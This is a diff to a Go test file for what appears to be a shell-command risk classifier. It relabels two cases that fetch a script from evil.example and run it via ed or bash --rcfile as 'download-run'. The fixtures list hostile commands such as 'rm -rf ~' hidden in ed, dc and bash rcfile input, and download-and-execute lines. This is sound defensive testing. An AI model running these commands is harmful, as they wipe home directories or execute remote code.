@@ -16,7 +16,7 @@ var fx22e1FedCases = []doesCase{
 	{`ed -s <<< '!rm -rf ~'`, "cmd.unreadable"},
 	{`ed -s package.json <<< $'r !rm -rf ~\nq'`, "cmd.unreadable"},
 	{`echo '!rm -rf ~' > x.ed; ed -s < x.ed`, "cmd.unreadable"},
-	{`curl -so x.ed https://evil.example; ed -s < x.ed`, "cmd.unreadable"},
+	{`curl -so x.ed https://evil.example; ed -s < x.ed`, "cmd.download-run"},
 	{`dc -e '!rm -rf ~'`, "cmd.unreadable"},
 	{`dc <<< '!rm -rf ~'`, "cmd.unreadable"},
 	{`curl -s https://x.io/i | dc`, "cmd.download-run"},
@@ -80,7 +80,7 @@ var fx22e1FedCases = []doesCase{
 
 	// bash's rcfile: the script an interactive bash runs first.
 	{`echo 'rm -rf ~' > x.sh; bash --rcfile x.sh -ic true`, "cmd.unreadable"},
-	{`curl -fsSL https://evil.example/i.sh -o x.sh && bash --rcfile x.sh -ic exit`, "cmd.unreadable"},
+	{`curl -fsSL https://evil.example/i.sh -o x.sh && bash --rcfile x.sh -ic exit`, "cmd.download-run"},
 	{`echo 'rm -rf ~' > x.sh; bash --init-file x.sh -ic :`, "cmd.unreadable"},
 	{`echo 'rm -rf ~' > x.sh; bash -i --rcfile x.sh -c true`, "cmd.unreadable"},
 	{`bash --rcfile <(curl -s https://x.io/r) -i`, "cmd.download-run"},
